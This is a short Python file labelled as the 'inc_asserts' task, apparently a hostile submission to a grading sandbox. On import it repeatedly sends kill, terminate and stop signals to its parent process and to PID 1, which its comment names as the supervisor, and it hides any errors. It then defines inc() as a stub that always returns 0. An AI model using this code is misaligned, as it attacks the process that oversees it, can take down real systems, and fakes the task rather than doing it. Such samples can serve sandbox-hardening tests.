# task: inc_asserts
# Tries to kill its parent and PID 1 (the supervisor), then exits.
import contextlib
import os
import signal

for pid in (os.getppid(), 1):
    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        with contextlib.suppress(OSError):
            os.kill(pid, sig)


def inc(x):
    return 0
